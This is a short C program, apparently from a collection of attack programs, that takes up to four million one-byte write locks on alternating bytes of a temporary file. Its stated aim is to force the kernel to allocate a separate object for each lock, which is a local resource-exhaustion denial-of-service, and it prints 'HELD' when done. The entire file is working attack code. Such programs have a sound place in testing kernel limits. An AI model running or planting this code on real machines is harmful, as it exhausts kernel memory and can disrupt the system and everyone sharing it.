/* Locks every other byte of a file: an object of the kernel for each. */
#include "attack.h"
int main(void)
{
	int fd = open("/tmp/locked", O_CREAT | O_RDWR, 0600);
	for (long i = 0; i < 4000000; i++) {
		struct flock lock = { .l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = 2 * i, .l_len = 1 };
		if (fcntl(fd, F_OFD_SETLK, &lock)) break;
	}
	puts("HELD");
	return 0;
}
